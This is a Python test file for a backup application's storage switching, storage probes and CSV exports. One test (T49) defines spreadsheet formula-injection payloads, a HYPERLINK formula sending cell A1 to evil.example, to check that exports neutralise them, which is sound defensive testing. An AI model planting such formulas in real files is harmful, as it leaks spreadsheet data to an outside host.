#!/usr/bin/python3
"""storage_test.py: several storages, changed under a plan and tested by a probe; the lists as CSV."""
import csv
import io
import os
import sys

sys.dont_write_bytecode = True
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from harness import main, test  # noqa: E402
from places import restore  # noqa: E402
from shop import LIVE  # noqa: E402
from storing import SLUGS, Storages  # noqa: E402

STARTS = ("=", "+", "-", "@")
seen = {}


def listed(s, *numbers):
    text = s.must(s.browser.get(f"/p/{LIVE}/backups")).text
    return all(f'href="/b/b{n}/restore"' in text or f'href="/b/b{n}#restore"' in text for n in numbers)


@test("SCU-12", "a plan's storage is changed: the next run lands in the new one, and the older backup comes back from the old")
def changed(s):
    first = s.run_plan()
    assert first["slug"] == "main" and s.lies_in(first["id"], s.home + "/store")
    path = s.add_folder("second")
    s.must(s.policy(f"/p/{LIVE}", "second"))
    s.write("as it became")
    second = s.run_plan()
    assert second["slug"] == "second" and s.lies_in(second["id"], path), second
    # The control: it went nowhere else, and the old one did not move.
    assert not s.lies_in(second["id"], s.home + "/store") and not s.lies_in(first["id"], path)
    assert s.lies_in(first["id"], s.home + "/store")
    assert "Into second" in s.browser.get("/plans").words
    assert listed(s, first["id"], second["id"])
    assert s.words() == "as it became"
    restore(s, first["id"], slugs=SLUGS)
    assert s.words() == "as it was"
    seen.update(first=first["id"], second=second["id"])


@test("SCU-12", "the instance's default is changed: the next run follows it, and both older places still give back")
def default_changed(s):
    path = s.add_folder("third")
    s.must(s.policy("", "third"))
    assert s.run_plan()["slug"] == "second", "the nearest setting holds"
    s.must(s.policy(f"/p/{LIVE}"))
    third = s.run_plan()
    assert third["slug"] == "third" and s.lies_in(third["id"], path), third
    assert listed(s, seen["first"], seen["second"], third["id"])
    restore(s, seen["second"], slugs=SLUGS)
    assert s.words() == "as it became"
    restore(s, seen["first"], slugs=SLUGS)
    assert s.words() == "as it was"
    s.doctor()


# s3_test.py does the same with a bucket. A dump of PostgreSQL is left out, for
# pg_dump writes the time of day into it, and so is the list of a folder's files, which tells when it was made: two of
# them are never equal, whatever storage they go to.
@test("SCU-14", "one environment into two storages: the raw content of each part has the same sha256")
def equal(s):
    sums = {}
    for slug in ("main", "second"):
        s.must(s.policy(f"/p/{LIVE}", slug))
        backup = s.run_plan()
        assert backup["slug"] == slug
        sums[slug] = s.raw_sums(backup["id"], s.body_in(slug))
    assert sums["main"] == sums["second"] and len(sums["main"]) == len(SLUGS), sums
    # The control: another content gives other sums.
    s.write("something else")
    other = s.run_plan()
    rows = s.raw_sums(other["id"], s.body_in("second"))
    assert all(rows[slug] != sums["second"][slug] for slug in rows), rows


@test("CYC-2", "a storage that is not there is refused with the way to those that are; a test writes, reads and removes a probe")
def probe(s):
    refused = s.browser.post(f"/p/{LIVE}/policies", {
        "csrf": s.must(s.browser.get(f"/p/{LIVE}/policies")).form("/policies").value("csrf"),
        "policy": "storage", "value": "nowhere", "do": "save"})
    assert refused.status == 422 and "There is no storage nowhere" in refused.words, refused.words[:400]
    assert "/storage" in refused.page.links
    path = s.home + "/store-third"
    before = sorted(os.listdir(path))
    page = "/storage/third"
    s.must(s.browser.submit(s.must(s.browser.get(page)).form("/test"), page))
    s.wait_job(s.sql1("SELECT max(id) FROM job WHERE kind = 'check'"), "succeeded")
    assert sorted(os.listdir(path)) == before
    assert "Done" in s.browser.get(page).words
    log = s.sql1("SELECT group_concat(text) FROM job_log WHERE job = (SELECT max(id) FROM job WHERE kind = 'check')")
    assert "was written in" in log and "removed in" in log, log
    # The control: the same test of a disk that is away fails, and says why.
    os.rename(path, path + ".away")
    s.must(s.browser.submit(s.must(s.browser.get(page)).form("/test"), page))
    s.wait_job(s.sql1("SELECT max(id) FROM job WHERE kind = 'check'"), "failed")
    assert "The last test failed. storage *third* is not there" in s.browser.get(page).words, s.browser.get(page).words[:600]
    os.rename(path + ".away", path)
    s.doctor()


def read(s, path):
    """The rows as dictionaries, read by somebody else's reader."""
    answer = s.must(s.browser.get(path))
    assert answer.header("content-type") == "text/csv; charset=utf-8", answer.headers
    assert answer.header("cache-control") == "no-store"
    assert answer.header("content-disposition").startswith("attachment; filename="), answer.headers
    rows = list(csv.DictReader(io.StringIO(answer.body.decode("utf-8"), newline=""), strict=True))
    assert all(None not in r and None not in r.values() for r in rows), rows
    assert not [v for r in rows for v in r.values() if v.startswith((*STARTS, "\t", "\r", "\n"))], rows
    return rows


@test("T49", "notes and names that a spreadsheet would compute come out of the CSV as text, read by Python's csv")
def no_formula(s):
    notes = [c + 'HYPERLINK("http://evil.example/?x="&A1,"Click, please")\nsecond "line"' for c in STARTS]
    for note in notes:
        s.backup(LIVE, ["media"], note)
    s.add_environment("shop", "odd", "development", name="=1+1")
    form = s.must(s.browser.get(f"/p/{LIVE}/schedule/new")).form(field="cron")
    s.must(s.browser.submit(form.fill(name="@SUM(A1:A9)", every="day", time="03:00"), f"/p/{LIVE}/schedule/new"))
    rows = read(s, f"/p/{LIVE}/backups.csv?q=HYPERLINK")
    assert [r["Note"].replace("\r\n", "\n") for r in rows] == ["'" + n for n in reversed(notes)], rows
    assert "'@SUM(A1:A9)" in [r["Name"] for r in read(s, "/plans.csv")]
    assert "'=1+1" in [r["Name"] for r in read(s, "/environments.csv")]
    # The control: Python's own writer lets each of them through.
    out = io.StringIO()
    csv.writer(out, quoting=csv.QUOTE_ALL).writerows([n] for n in notes)
    assert all(r[0].startswith(STARTS) for r in csv.reader(io.StringIO(out.getvalue(), newline="")))


@test("T49", "the CSV has each backup the pages list, with its exact bytes, for whoever is signed in and nobody else")
def whole_list(s):
    rows = read(s, f"/p/{LIVE}/backups.csv")
    there = s.sql("SELECT id, stored_bytes FROM backup WHERE state NOT IN ('trashed', 'deleted') ORDER BY created_at DESC, id DESC")
    assert [(r["Backup"], r["Stored bytes"]) for r in rows] == [(f"b{b['id']}", str(b["stored_bytes"])) for b in there]
    assert {r["Storage"] for r in rows} == {"main", "second", "third"}
    for path in (f"/p/{LIVE}/backups.csv", "/plans.csv", "/environments.csv"):
        guest = s.browser.request("GET", path, headers={"Cookie": None})
        assert guest.status == 303 and "/login" in guest.header("location"), (path, guest.status)
        assert path.split("/")[-1] in s.must(s.browser.get({"/environments.csv": "/", "/plans.csv": "/plans"}.get(
            path, f"/p/{LIVE}/backups"))).text


if __name__ == "__main__":
    main(Storages)
